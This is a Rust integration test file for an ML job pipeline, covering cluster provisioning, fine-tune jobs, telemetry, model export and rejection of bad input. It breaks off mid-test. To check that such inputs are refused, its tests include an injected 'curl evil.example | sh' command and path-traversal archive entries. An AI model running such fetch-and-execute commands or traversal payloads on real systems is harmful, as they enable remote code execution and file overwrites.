//! The ML functions driven in-process through `functions::dispatch`, on the real local adapters
//! (SQLite workspace, local broker, allow-listed fetcher) in a temporary directory: the happy
//! path from ProvisionGpuCluster to a model folder, `trainer: "container"` jobs running a small
//! shell command of this test's own (no socwire trainer in it), and every kind of bad input.

mod support;

use serde_json::{json, Value};
use socwire::context::Context;
use socwire::functions::dispatch;
use socwire::local::{LocalMlOptions, LocalWorkspace};
use socwire::ports::MlWorkspace;
use socwire::protocol::{InvocationRequest, InvocationResponse};
use socwire_host::brokers::{Brokers, SbEntityOptions, SystemClock};
use std::path::Path;
use std::sync::Arc;

struct Fixture {
    dir: tempfile::TempDir,
    ctx: Context,
    ws: Arc<LocalWorkspace>,
    brokers: Brokers,
}

/// Every command sent on ml-commands lands in subscription `all` as well.
const ALL: &str = "ml-commands/subscriptions/all";

fn fixture_with(quota: u32) -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let brokers = Brokers::open(dir.path(), Arc::new(SystemClock)).unwrap();
    brokers
        .service_bus("ml-commands")
        .ensure_topic(SbEntityOptions::default())
        .unwrap();
    brokers
        .service_bus("ml-commands")
        .ensure_subscription("all", None, SbEntityOptions::default())
        .unwrap();
    let ws = Arc::new(
        LocalWorkspace::open(
            dir.path(),
            LocalMlOptions {
                provision_ms: 0,
                max_nodes_quota: quota,
                runner: None,
            },
        )
        .unwrap(),
    );
    let assets = dir.path().join("ml").join("local-assets");
    std::fs::create_dir_all(&assets).unwrap();
    let data = dir.path().display().to_string();
    let settings = socwire::settings::Settings::from_lookup(|k| match k {
        "SOCWIRE_DATA_DIR" => Some(data.clone()),
        "SOCWIRE_ML_POLL_SECS" => Some("1".into()),
        "SOCWIRE_ML_MAX_ASSET_BYTES" => Some("100000".into()),
        // Room for a job's output (a model and a 10 MB eval.json); archives that unpack to
        // more are refused.
        "SOCWIRE_ML_MAX_UNPACKED_BYTES" => Some((32u64 << 20).to_string()),
        _ => None,
    })
    .unwrap();
    let ctx = Context {
        ml: ws.clone(),
        assets: Arc::new(socwire::azure::AllowListedFetcher::new(
            settings.ml.ngc_allowed_hosts.clone(),
            settings.ml.local_asset_dirs.clone(),
        )),
        settings: Arc::new(settings),
        ..support::context::local(dir.path())
    };
    Fixture {
        dir,
        ctx,
        ws,
        brokers,
    }
}

fn fixture() -> Fixture {
    fixture_with(8)
}

fn sb_request(subject: Option<&str>, body: &Value) -> InvocationRequest {
    let mut req = InvocationRequest::default();
    req.data.insert("command".into(), json!(body.to_string()));
    req.metadata.insert("DeliveryCount".into(), json!("1"));
    req.metadata.insert("MessageId".into(), json!("m-1"));
    if let Some(s) = subject {
        req.metadata.insert("Subject".into(), json!(s));
    }
    req
}

impl Fixture {
    async fn call(
        &self,
        function: &str,
        subject: Option<&str>,
        body: &Value,
    ) -> InvocationResponse {
        dispatch(function, &self.ctx, sb_request(subject, body))
            .await
            .unwrap()
    }

    /// Commands sent so far that are deliverable now (subject, body).
    fn sent_now(&self) -> Vec<(String, Value)> {
        let got = self.brokers.service_bus(ALL).receive(100).unwrap();
        got.into_iter()
            .map(|m| {
                self.brokers
                    .service_bus(ALL)
                    .complete(&m.lock_token)
                    .unwrap();
                (
                    m.message.subject.unwrap_or_default(),
                    serde_json::from_slice(&m.message.body).unwrap(),
                )
            })
            .collect()
    }

    fn scheduled(&self) -> i64 {
        let s = self.brokers.status().unwrap();
        s.service_bus
            .iter()
            .find(|e| e.entity == ALL)
            .map_or(0, |e| e.scheduled)
    }

    fn base_model_archive(&self, entries: &[(&str, &[u8])]) -> String {
        let n = std::fs::read_dir(self.dir.path().join("ml/local-assets"))
            .unwrap()
            .count();
        let path = self
            .dir
            .path()
            .join(format!("ml/local-assets/base-{n}.tar.gz"));
        std::fs::write(&path, tar_gz(entries)).unwrap();
        url::Url::from_file_path(&path).unwrap().to_string()
    }
}

fn reject(r: &InvocationResponse) -> Option<&Value> {
    r.outputs.get("rejects").and_then(|v| v.get(0))
}

fn events(r: &InvocationResponse) -> Vec<&Value> {
    r.outputs
        .get("events")
        .and_then(Value::as_array)
        .map(|a| a.iter().collect())
        .unwrap_or_default()
}

fn tar_gz(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (path, data) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
        h.set_cksum();
        b.append(&h, *data).unwrap();
    }
    b.into_inner().unwrap().finish().unwrap()
}

fn provision(id: &str, max_nodes: u32) -> Value {
    json!({"commandId": id, "schemaVersion": 1, "clusterName": "gpu-a", "vmSize": "Standard_NC24ads_A100_v4", "maxNodes": max_nodes})
}

/// The sha-256 of a `file://` asset that exists (so the command verifies it), else a
/// placeholder that passes validation (the fetch refuses those URLs first).
fn sha_of(url: &str) -> String {
    url::Url::parse(url)
        .ok()
        .and_then(|u| u.to_file_path().ok())
        .filter(|p| p.is_file())
        .map(|p| socwire::ml::staging::sha256_file(&p).unwrap())
        .unwrap_or_else(|| "0".repeat(64))
}

fn fine_tune(id: &str, url: &str) -> Value {
    json!({"commandId": id, "schemaVersion": 1, "clusterName": "gpu-a", "model": "ct",
           "assets": [{"url": url, "sha256": sha_of(url)}], "hyperParameters": {"epochs": 2}})
}

async fn ready_cluster(f: &Fixture) {
    let first = f
        .call(
            "provision-gpu-cluster",
            Some("ProvisionGpuCluster"),
            &provision("p-1", 2),
        )
        .await;
    assert!(reject(&first).is_none(), "{first:?}");
    assert_eq!(
        f.scheduled(),
        1,
        "a follow-up was scheduled, nothing waited"
    );
}

#[tokio::test]
async fn provisioning_follows_up_by_itself_and_one_command_id_makes_one_cluster() {
    let f = fixture();
    ready_cluster(&f).await;
    // The follow-up the function scheduled (delivered here by hand, as the broker would later).
    let mut follow = provision("p-1", 2);
    follow["followUp"] = json!({"kind": "provisionPoll", "attempt": 1, "operation": "local:gpu-a", "startedMs": chrono::Utc::now().timestamp_millis()});
    let done = f
        .call(
            "provision-gpu-cluster",
            Some("ProvisionGpuCluster"),
            &follow,
        )
        .await;
    let ev = events(&done);
    assert_eq!(ev.len(), 1, "{done:?}");
    assert_eq!(ev[0]["eventType"], "socwire.ClusterReady");
    assert_eq!(ev[0]["data"]["vmSize"], "Standard_NC24ads_A100_v4");
    // Redelivery of the original command and of the follow-up: nothing new.
    for body in [provision("p-1", 2), follow] {
        let again = f
            .call("provision-gpu-cluster", Some("ProvisionGpuCluster"), &body)
            .await;
        assert!(
            events(&again).is_empty() && reject(&again).is_none(),
            "{again:?}"
        );
        assert!(again.logs[0].contains("already handled"));
    }
    assert_eq!(f.ws.clusters().unwrap().len(), 1);
    assert_eq!(f.scheduled(), 1, "no further follow-ups");
}

/// A quota too small for `minNodes` is refused at creation. One too small for the node a job
/// needs bites at scale-up, as Azure's core quota does: the cluster reads Succeeded, its scale
/// error says why no node came, and the job watch cancels the job at once (not after the queue
/// deadline) with `socwire.ClusterFailed` and `socwire.FineTuneFailed` carrying the reason.
#[tokio::test]
async fn quota_at_creation_is_refused_and_at_scale_up_cancels_the_waiting_job() {
    let f = fixture_with(0);
    let mut warm = provision("p-q", 2);
    warm["minNodes"] = json!(1);
    let r = f
        .call("provision-gpu-cluster", Some("ProvisionGpuCluster"), &warm)
        .await;
    let rej = reject(&r).expect("set aside");
    assert!(
        rej["reason"].as_str().unwrap().contains("QuotaExceeded"),
        "{rej}"
    );
    assert_eq!(rej["key"], "p-q");
    assert_eq!(events(&r)[0]["eventType"], "socwire.ClusterFailed");
    assert!(f.ws.clusters().unwrap().is_empty());

    // minNodes 0: created; the quota shows when the job asks for a node.
    ready_cluster(&f).await;
    let url = f.base_model_archive(&[("base.safetensors", b"not read before a node exists")]);
    let mut cmd = fine_tune("ft-q", &url);
    let r = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
    let job_id = events(&r)[0]["data"]["jobId"].as_str().unwrap().to_string();
    let cluster = f.ws.get_cluster("gpu-a").await.unwrap().unwrap();
    assert_eq!(cluster.state, "Succeeded");
    let scale = cluster.scale_error.expect("a scale error");
    assert!(scale.contains("ClusterCoreQuotaReached"), "{scale}");

    cmd["followUp"] = json!({"kind": "jobWatch", "attempt": 1,
        "startedMs": chrono::Utc::now().timestamp_millis(), "jobId": job_id});
    let w = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
    let ev = events(&w);
    assert_eq!(ev.len(), 2, "{w:?}");
    assert_eq!(ev[0]["eventType"], "socwire.ClusterFailed");
    assert!(ev[0]["data"]["reason"].as_str().unwrap().contains("quota"));
    assert_eq!(ev[1]["eventType"], "socwire.FineTuneFailed");
    assert!(ev[1]["data"]["reason"]
        .as_str()
        .unwrap()
        .contains("cannot add nodes"));
    assert_eq!(
        f.ws.get_job(&job_id).await.unwrap().unwrap().status,
        "CancelRequested"
    );
}

#[tokio::test]
async fn invalid_commands_and_unknown_subjects_are_set_aside_with_what_to_fix() {
    let f = fixture();
    let cases = [
        (
            "provision-gpu-cluster",
            Some("ProvisionGpuCluster"),
            json!({"commandId": "c-1", "schemaVersion": 1, "clusterName": "gpu-a", "vmSize": "Standard_D4s_v3"}),
            "not a GPU VM size",
        ),
        (
            "provision-gpu-cluster",
            Some("ProvisionGpuCluster"),
            json!({"commandId": "c-2", "clusterName": "gpu-a"}),
            "schemaVersion is required",
        ),
        (
            "provision-gpu-cluster",
            Some("RunFineTune"),
            provision("c-3", 1),
            "is not ProvisionGpuCluster",
        ),
        (
            "ml-unrouted",
            Some("TrainEverything"),
            json!({"commandId": "c-4"}),
            "not routed on ml-commands",
        ),
        (
            "ml-unrouted",
            None,
            json!({"commandId": "c-5"}),
            "no Subject",
        ),
        (
            "run-fine-tune",
            Some("RunFineTune"),
            fine_tune("c-6", "https://api.ngc.nvidia.com/x.zip"),
            "does not exist; send ProvisionGpuCluster",
        ),
        (
            "export-model",
            Some("ExportModel"),
            json!({"commandId": "c-7", "schemaVersion": 1, "jobId": "nope"}),
            "does not exist",
        ),
        (
            "cancel-job",
            Some("CancelJob"),
            json!({"commandId": "c-8", "schemaVersion": 1, "jobId": "nope"}),
            "does not exist",
        ),
    ];
    for (function, subject, body, needle) in cases {
        let r = f.call(function, subject, &body).await;
        let rej = reject(&r).unwrap_or_else(|| panic!("{function} accepted {body}: {r:?}"));
        assert!(
            rej["reason"].as_str().unwrap().contains(needle),
            "{function}: {rej}"
        );
        assert_eq!(rej["key"], body["commandId"], "{rej}");
    }
    // A routed subject passes the catch-all untouched.
    let ok = f.call("ml-unrouted", Some("RunFineTune"), &json!({})).await;
    assert!(reject(&ok).is_none());
}

#[tokio::test]
async fn assets_off_the_allow_list_or_unsafe_or_oversized_are_refused() {
    let f = fixture();
    ready_cluster(&f).await;
    let outside = f.dir.path().join("elsewhere.tar.gz");
    std::fs::write(&outside, tar_gz(&[("m.safetensors", b"x")])).unwrap();
    let good = f.base_model_archive(&[("m.safetensors", b"x")]);
    let big = vec![0u8; 40 << 20];
    let cases = [
        (
            "https://evil.example.com/model.zip".to_string(),
            "not on the asset allow-list",
        ),
        (
            url::Url::from_file_path(&outside).unwrap().to_string(),
            "SOCWIRE_ML_LOCAL_ASSET_DIRS",
        ),
        (
            f.base_model_archive(&[("../escape.safetensors", b"x")]),
            "'..'",
        ),
        (
            f.base_model_archive(&[("/etc/evil.safetensors", b"x")]),
            "absolute",
        ),
        (f.base_model_archive(&[("big.safetensors", &big)]), "cap"),
    ];
    for (i, (url, needle)) in cases.iter().enumerate() {
        let r = f
            .call(
                "run-fine-tune",
                Some("RunFineTune"),
                &fine_tune(&format!("ft-{i}"), url),
            )
            .await;
        let rej = reject(&r).unwrap_or_else(|| panic!("{url} accepted: {r:?}"));
        assert!(
            rej["reason"].as_str().unwrap().contains(needle),
            "{url}: {rej}"
        );
    }
    let corrupt = f.dir.path().join("ml/local-assets/corrupt.tar.gz");
    let bytes = tar_gz(&[("m.safetensors", &[1u8; 5000])]);
    std::fs::write(&corrupt, &bytes[..bytes.len() / 2]).unwrap();
    let r = f
        .call(
            "run-fine-tune",
            Some("RunFineTune"),
            &fine_tune("ft-c", url::Url::from_file_path(&corrupt).unwrap().as_ref()),
        )
        .await;
    assert!(
        reject(&r).unwrap()["reason"]
            .as_str()
            .unwrap()
            .contains("corrupt"),
        "{r:?}"
    );
    let mut wrong_sha = fine_tune("ft-s", &good);
    wrong_sha["assets"][0]["sha256"] = json!("0".repeat(64));
    let r = f
        .call("run-fine-tune", Some("RunFineTune"), &wrong_sha)
        .await;
    assert!(
        reject(&r).unwrap()["reason"]
            .as_str()
            .unwrap()
            .contains("sha256 is"),
        "{r:?}"
    );
    assert!(f.ws.jobs().unwrap().is_empty(), "no job was submitted");
}

/// The whole path in-process: provision (ready), fine-tune, the job (run here in-process),
/// RunStatusChanged → ExportModel → model folder; then duplicates, telemetry and bad events.
#[tokio::test]
async fn fine_tune_to_exported_model_with_duplicates_divergence_and_unknown_runs() {
    let f = fixture();
    ready_cluster(&f).await;
    let base = f.dir.path().join("base.safetensors");
    socwire_trainer::pretrain_base_model(3, &base).unwrap();
    let bytes = std::fs::read(&base).unwrap();
    let url = f.base_model_archive(&[("model/base.safetensors", &bytes)]);
    let cmd = fine_tune("ft-1", &url);
    let r = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
    assert!(reject(&r).is_none(), "{r:?}");
    assert_eq!(events(&r)[0]["eventType"], "socwire.FineTuneSubmitted");
    let job_id = events(&r)[0]["data"]["jobId"].as_str().unwrap().to_string();
    let again = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
    assert!(again.logs[0].contains("already submitted"), "{again:?}");
    assert_eq!(
        f.ws.jobs().unwrap().len(),
        1,
        "a duplicate command made no second job"
    );

    // Telemetry: one bad event set aside, unknown job ignored, a NaN loss cancels the job.
    let mut batch = InvocationRequest::default();
    let bodies = vec![
        json!({"jobId": job_id, "kind": "step", "step": 1, "loss": 0.7, "learningRate": 0.1})
            .to_string(),
        "{not json".to_string(),
        json!({"jobId": "ghost", "kind": "step", "step": 1, "loss": 0.7}).to_string(),
        json!({"jobId": job_id, "kind": "step", "step": 2, "loss": "NaN"}).to_string(),
    ];
    batch.data.insert("events".into(), json!(bodies));
    batch
        .metadata
        .insert("SequenceNumberArray".into(), json!([10, 11, 12, 13]));
    let t = dispatch("training-telemetry", &f.ctx, batch).await.unwrap();
    let rejects = t.outputs["rejects"].as_array().unwrap();
    assert_eq!(rejects.len(), 1);
    assert_eq!(rejects[0]["metadata"]["SequenceNumber"], 11);
    assert!(
        t.logs
            .iter()
            .any(|l| l.contains("unknown job ghost ignored")),
        "{t:?}"
    );
    let sent = f.sent_now();
    let cancel = sent
        .iter()
        .find(|(s, _)| s == "CancelJob")
        .expect("CancelJob sent");
    assert_eq!(cancel.1["jobId"], job_id.as_str());
    assert!(cancel.1["reason"].as_str().unwrap().contains("NaN"));

    // The cancel is not delivered here; run the job to completion in-process instead.
    let status = socwire::ml::runner::run_job(f.dir.path(), &job_id).unwrap();
    assert_eq!(status, "Completed");
    let event = |status: &str, run: &str| {
        let mut req = InvocationRequest::default();
        req.data.insert(
            "event".into(),
            socwire::ml::runner::run_status_event(run, "ct", &json!({}), status),
        );
        req
    };
    let unknown = dispatch("ml-run-status", &f.ctx, event("Completed", "not-ours"))
        .await
        .unwrap();
    assert!(unknown.logs[0].contains("unknown run"), "{unknown:?}");
    let done = dispatch("ml-run-status", &f.ctx, event("Completed", &job_id))
        .await
        .unwrap();
    assert!(reject(&done).is_none(), "{done:?}");
    let export = f
        .sent_now()
        .into_iter()
        .find(|(s, _)| s == "ExportModel")
        .expect("ExportModel sent")
        .1;
    assert_eq!(export["jobId"], job_id.as_str());
    let dup = dispatch("ml-run-status", &f.ctx, event("Completed", &job_id))
        .await
        .unwrap();
    assert!(dup.logs[0].contains("already handled"));
    assert!(
        f.sent_now().is_empty(),
        "a repeated event sent no second ExportModel"
    );

    let exported = f.call("export-model", Some("ExportModel"), &export).await;
    assert!(reject(&exported).is_none(), "{exported:?}");
    let ev = events(&exported)[0].clone();
    assert_eq!(ev["eventType"], "socwire.ModelExported");
    let folder = Path::new(ev["data"]["location"].as_str().unwrap()).to_path_buf();
    for file in socwire::functions::export_model::ARTEFACTS {
        assert!(
            folder.join(file).is_file(),
            "{file} missing in {}",
            folder.display()
        );
    }
    let meta: Value =
        serde_json::from_slice(&std::fs::read(folder.join("metadata.json")).unwrap()).unwrap();
    assert!(meta["averagePrecisionAfter"].as_f64().unwrap() > 0.0);
    assert_eq!(meta["lineage"]["job"], job_id.as_str());
    assert_eq!(meta["lineage"]["commands"]["fineTune"], "ft-1");
    // The input the trainer's ONNX graph declares (consumers feed it by this name).
    assert_eq!(meta["inputName"], "volume");
    let sha = &meta["lineage"]["baseModel"]["assets"][0]["sha256"];
    assert_eq!(sha.as_str().unwrap().len(), 64);
    let twice = f.call("export-model", Some("ExportModel"), &export).await;
    assert!(twice.logs[0].contains("already exported"));
    assert_eq!(f.ws.models().unwrap().len(), 1);

    // A job that failed: FineTuneFailed with the reason.
    f.ws.set_job_status(&job_id, "Failed", Some("CUDA out of memory"))
        .unwrap();
    let failed = dispatch("ml-run-status", &f.ctx, event("failed", &job_id))
        .await
        .unwrap();
    let ev = events(&failed);
    assert_eq!(ev[0]["eventType"], "socwire.FineTuneFailed");
    assert_eq!(ev[0]["data"]["reason"], "CUDA out of memory");
    let _ = f.ws.get_job(&job_id).await.unwrap();
}

/// A job stuck in Queued past its queue deadline is cancelled by the watch follow-up; a
/// CancelJob stops a job before its first step and the run ends Canceled.
#[tokio::test]
async fn queue_deadline_and_cancel_job_stop_a_job() {
    let f = fixture();
    ready_cluster(&f).await;
    let base = f.dir.path().join("base.safetensors");
    socwire_trainer::pretrain_base_model(3, &base).unwrap();
    let url = f.base_model_archive(&[("base.safetensors", &std::fs::read(&base).unwrap())]);
    let mut cmd = fine_tune("ft-d", &url);
    let r = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
    let job_id = events(&r)[0]["data"]["jobId"].as_str().unwrap().to_string();
    assert_eq!(
        f.ws.get_job(&job_id).await.unwrap().unwrap().status,
        "Queued"
    );

    // The watch, an hour and a minute after submission (queueDeadlineMinutes defaults to 60).
    let hour_ago = chrono::Utc::now().timestamp_millis() - 61 * 60_000;
    cmd["followUp"] =
        json!({"kind": "jobWatch", "attempt": 3, "startedMs": hour_ago, "jobId": job_id});
    let w = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
    let ev = events(&w);
    assert_eq!(ev[0]["eventType"], "socwire.FineTuneFailed", "{w:?}");
    assert!(ev[0]["data"]["reason"]
        .as_str()
        .unwrap()
        .contains("queueDeadlineMinutes"));
    assert_eq!(
        f.ws.get_job(&job_id).await.unwrap().unwrap().status,
        "CancelRequested"
    );
    assert_eq!(
        socwire::ml::runner::run_job(f.dir.path(), &job_id).unwrap(),
        "Canceled"
    );

    // CancelJob on a finished job leaves it alone.
    let c = f
        .call(
            "cancel-job",
            Some("CancelJob"),
            &json!({"commandId": "x-1", "schemaVersion": 1, "jobId": job_id}),
        )
        .await;
    assert!(c.logs[0].contains("already Canceled"), "{c:?}");
}

/// The training entry of this test's own "container": a POSIX shell script, no socwire
/// trainer in it. It copies its model from the assets to `$1` (the outputs), logs MLflow
/// metrics the way MLflow's file store keeps them (`<store>/<experiment>/<run>/metrics/<key>`,
/// `timestamp value step` per line) under `$MLFLOW_TRACKING_URI`, and writes `eval.json`
/// according to `$2`: `good`, `none`, `nan`, `huge`, or `fail` (exit 1).
const TRAIN_SH: &str = r#"#!/bin/sh
set -eu
out="$1"; mode="$2"; epochs="$3"
store="${MLFLOW_TRACKING_URI#file://}/0/run-1/metrics"
mkdir -p "$store" "$out"
here="$(dirname "$0")"
[ -f "$here/model.onnx" ] && cp "$here/model.onnx" "$out/model.onnx"
cp "$here/weights.bin" "$out/weights.bin"
printf '1000 0.69 1\n1001 0.52 2\n' > "$store/loss"
printf '1002 0.71 0\n1003 0.93 %s\n' "$epochs" > "$store/average_precision"
printf '1002 0.60 0\n1003 0.35 %s\n' "$epochs" > "$store/eval_loss"
printf '1004 0.71 0\n' > "$store/average_precision_before"
printf '1005 0.93 0\n' > "$store/average_precision_after"
echo "trained $epochs epochs"
case "$mode" in
  good) echo '{"averagePrecisionBefore": 0.71, "averagePrecisionAfter": 0.93}' > "$out/eval.json" ;;
  nan) echo '{"averagePrecisionBefore": NaN, "averagePrecisionAfter": 0.93}' > "$out/eval.json" ;;
  huge) head -c 10485760 /dev/zero | tr '\0' ' ' > "$out/eval.json" ;;
  fail) echo "CUDA error: no kernel image is available" >&2; exit 1 ;;
  none) ;;
esac
"#;

impl Fixture {
    /// The container's assets: the training script, weights, and (optionally) an ONNX model.
    fn container_assets(&self, onnx: Option<&[u8]>) -> String {
        let mut entries: Vec<(&str, &[u8])> = vec![
            ("train.sh", TRAIN_SH.as_bytes()),
            ("weights.bin", b"pretend weights"),
        ];
        if let Some(bytes) = onnx {
            entries.push(("model.onnx", bytes));
        }
        self.base_model_archive(&entries)
    }

    /// Submits a container fine-tune, runs its job in-process and delivers its Completed or
    /// Failed event; returns the job id, the job's final status and the ml-run-status answer.
    async fn run_container(&self, body: Value) -> (String, String, InvocationResponse) {
        let r = self.call("run-fine-tune", Some("RunFineTune"), &body).await;
        assert!(reject(&r).is_none(), "{r:?}");
        let job_id = events(&r)[0]["data"]["jobId"].as_str().unwrap().to_string();
        let status = socwire::ml::runner::run_job(self.dir.path(), &job_id).unwrap();
        let mut req = InvocationRequest::default();
        req.data.insert(
            "event".into(),
            socwire::ml::runner::run_status_event(&job_id, "ct", &json!({}), &status),
        );
        let answer = dispatch("ml-run-status", &self.ctx, req).await.unwrap();
        (job_id, status, answer)
    }
}

fn container_fine_tune(id: &str, url: &str, mode: &str, extra: Value) -> Value {
    let mut body = json!({"commandId": id, "schemaVersion": 1, "clusterName": "gpu-a", "model": "clara-ct",
        "trainer": "container", "image": "nvcr.io/nvidia/clara-train-sdk:v4.1",
        "command": format!("sh {{assets}}/train.sh {{outputs}} {mode} {{epochs}}"),
        "assets": [{"url": url, "sha256": sha_of(url)}], "hyperParameters": {"epochs": 3}});
    if let (Some(b), Some(e)) = (body.as_object_mut(), extra.as_object()) {
        b.extend(e.clone());
    }
    body
}

/// `trainer: "container"` end to end on the local back end: the command runs as a local
/// process with the placeholders filled, its eval.json gives AP before and after, its
/// model.onnx is registered as ONNX (interface read from the file), every artifact is listed
/// with its sha-256; with `evaluation: "mlflow"` the AP comes from the job's MLflow metrics and
/// a job without ONNX is registered as its artifacts.
#[tokio::test]
async fn a_container_command_of_our_own_is_fine_tuned_and_exported() {
    let f = fixture();
    ready_cluster(&f).await;
    // Any real ONNX file will do as the container's model; this one happens to be at hand.
    let st = f.dir.path().join("m.safetensors");
    let cfg = socwire_trainer::DataConfig {
        pretrain_samples: 2,
        pretrain_epochs: 1,
        ..socwire_trainer::DataConfig::tiny()
    };
    socwire_trainer::pretrain_base_model_with(1, &cfg, &st).unwrap();
    let onnx_path = f.dir.path().join("m.onnx");
    socwire_trainer::export_onnx(&st, &onnx_path).unwrap();
    let onnx = std::fs::read(&onnx_path).unwrap();

    let url = f.container_assets(Some(&onnx));
    let (job_id, status, done) = f
        .run_container(container_fine_tune("ct-1", &url, "good", json!({})))
        .await;
    assert_eq!(status, "Completed");
    let log = std::fs::read_to_string(f.ws.job_dir(&job_id).join("job.log")).unwrap_or_default();
    let export = f
        .sent_now()
        .into_iter()
        .find(|(s, _)| s == "ExportModel")
        .unwrap_or_else(|| panic!("no ExportModel: {done:?} {log}"))
        .1;
    let exported = f.call("export-model", Some("ExportModel"), &export).await;
    assert!(reject(&exported).is_none(), "{exported:?}");
    let ev = events(&exported)[0].clone();
    assert_eq!(ev["data"]["format"], "onnx");
    assert_eq!(ev["data"]["averagePrecisionBefore"], 0.71);
    assert_eq!(ev["data"]["averagePrecisionAfter"], 0.93);
    let folder = Path::new(ev["data"]["location"].as_str().unwrap()).to_path_buf();
    let meta: Value =
        serde_json::from_slice(&std::fs::read(folder.join("metadata.json")).unwrap()).unwrap();
    assert_eq!(meta["trainer"], "container");
    assert_eq!(meta["inputName"], "volume");
    assert_eq!(meta["evaluation"], "evalJson");
    assert_eq!(
        meta["command"],
        "sh {assets}/train.sh {outputs} good {epochs}"
    );
    assert_eq!(
        meta["lineage"]["image"],
        "nvcr.io/nvidia/clara-train-sdk:v4.1"
    );
    let files: Vec<&str> = meta["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert_eq!(files, ["eval.json", "model.onnx", "weights.bin"]);
    assert_eq!(
        meta["files"][2]["sha256"],
        socwire::ml::staging::sha256_file(&folder.join("weights.bin")).unwrap()
    );
    assert!(folder.join("model.onnx").is_file());
    // The placeholder {epochs} reached the command as the hyper-parameter.
    let history =
        f.ws.metric_history(&job_id, "average_precision")
            .await
            .unwrap();
    assert_eq!(history.last().unwrap().step, 3);

    // evaluation "mlflow", no ONNX: AP from the MLflow metrics, registered as artifacts.
    let url = f.container_assets(None);
    let (_, status, _) = f
        .run_container(container_fine_tune(
            "ct-2",
            &url,
            "none",
            json!({"evaluation": "mlflow"}),
        ))
        .await;
    assert_eq!(status, "Completed");
    let export = f
        .sent_now()
        .into_iter()
        .find(|(s, _)| s == "ExportModel")
        .unwrap()
        .1;
    let exported = f.call("export-model", Some("ExportModel"), &export).await;
    let ev = events(&exported)[0].clone();
    assert_eq!(ev["data"]["format"], "artifacts", "{exported:?}");
    assert_eq!(ev["data"]["averagePrecisionAfter"], 0.93);
    assert_eq!(f.ws.models().unwrap().len(), 2);
}

/// A container job that breaks the contract never hangs: a failing command ends the job
/// Failed with its exit status in FineTuneFailed; a missing, NaN or 10 MB eval.json is set
/// aside at export with the reason and reported as FineTuneFailed; and the pipeline's cluster
/// is scaled back to 0 minimum nodes each time.
#[tokio::test]
async fn container_jobs_that_break_the_contract_are_set_aside_and_the_cluster_scaled_back() {
    let f = fixture();
    let mut warm = provision("p-w", 2);
    warm["minNodes"] = json!(1);
    let r = f
        .call("provision-gpu-cluster", Some("ProvisionGpuCluster"), &warm)
        .await;
    assert!(reject(&r).is_none(), "{r:?}");
    let min_nodes = |f: &Fixture| f.ws.clusters().unwrap()[0].min_nodes;
    let url = f.container_assets(None);
    let pipeline = json!({"parentCommandId": "p-w"});

    let (_, status, failed) = f
        .run_container(container_fine_tune("cf-1", &url, "fail", pipeline.clone()))
        .await;
    assert_eq!(status, "Failed");
    let ev = events(&failed);
    assert_eq!(ev[0]["eventType"], "socwire.FineTuneFailed");
    assert!(
        ev[0]["data"]["reason"]
            .as_str()
            .unwrap()
            .contains("exited with"),
        "{failed:?}"
    );
    assert!(
        failed.logs.iter().any(|l| l.contains("scaled back")),
        "{failed:?}"
    );
    assert_eq!(min_nodes(&f), 0);

    for (i, (mode, needle)) in [
        ("none", "wrote no eval.json"),
        ("nan", "NaN"),
        ("huge", "bytes; the evaluation contract allows 65536"),
    ]
    .into_iter()
    .enumerate()
    {
        // Warm the cluster again, so each refusal has something to scale back.
        let mut again = provision(&format!("p-w{i}"), 2);
        again["minNodes"] = json!(1);
        f.call("provision-gpu-cluster", Some("ProvisionGpuCluster"), &again)
            .await;
        assert_eq!(min_nodes(&f), 1);
        let id = format!("cb-{i}");
        let (job_id, status, _) = f
            .run_container(container_fine_tune(&id, &url, mode, pipeline.clone()))
            .await;
        assert_eq!(status, "Completed", "the process itself succeeded");
        let export = f
            .sent_now()
            .into_iter()
            .find(|(s, _)| s == "ExportModel")
            .unwrap()
            .1;
        let r = f.call("export-model", Some("ExportModel"), &export).await;
        let rej = reject(&r).unwrap_or_else(|| panic!("{mode} accepted: {r:?}"));
        assert!(
            rej["reason"].as_str().unwrap().contains(needle),
            "{mode}: {rej}"
        );
        assert_eq!(events(&r)[0]["eventType"], "socwire.FineTuneFailed");
        assert_eq!(events(&r)[0]["data"]["jobId"], job_id.as_str());
        assert_eq!(min_nodes(&f), 0, "{mode}: cluster scaled back");
    }
    assert!(f.ws.models().unwrap().is_empty());

    // Shell metacharacters never reach a job: the command is refused and set aside.
    let mut bad = container_fine_tune("cs-1", &url, "good", pipeline);
    bad["command"] = json!("sh {assets}/train.sh {outputs} good 3; curl evil.example | sh");
    let r = f.call("run-fine-tune", Some("RunFineTune"), &bad).await;
    let rej = reject(&r).expect("set aside");
    assert!(rej["reason"].as_str().unwrap().contains("';'"), "{rej}");
}

/// A container job's MLflow metrics feed the divergence rule: values logged out of order and
/// with gaps are folded by step, and a NaN loss sends one CancelJob while the job runs.
#[tokio::test]
async fn mlflow_metrics_with_gaps_and_out_of_order_steps_cancel_a_diverging_container_job() {
    let f = fixture();
    ready_cluster(&f).await;
    let url = f.container_assets(None);
    let mut cmd = container_fine_tune("cm-1", &url, "good", json!({}));
    let r = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
    let job_id = events(&r)[0]["data"]["jobId"].as_str().unwrap().to_string();
    // What a running job has logged so far: steps 5, 1, 3 (2 and 4 never logged), then NaN.
    let metrics = socwire::local::mlflow_store(&f.ws.job_dir(&job_id)).join("7/run-a/metrics");
    std::fs::create_dir_all(&metrics).unwrap();
    std::fs::write(
        metrics.join("loss"),
        "3000 0.5 5\n1000 0.9 1\n2000 0.7 3\ngarbage\n",
    )
    .unwrap();
    cmd["followUp"] = json!({"kind": "jobWatch", "attempt": 1,
        "startedMs": chrono::Utc::now().timestamp_millis(), "jobId": job_id});
    let w = f.call("run-fine-tune", Some("RunFineTune"), &cmd).await;
    assert!(
        w.logs
            .iter()
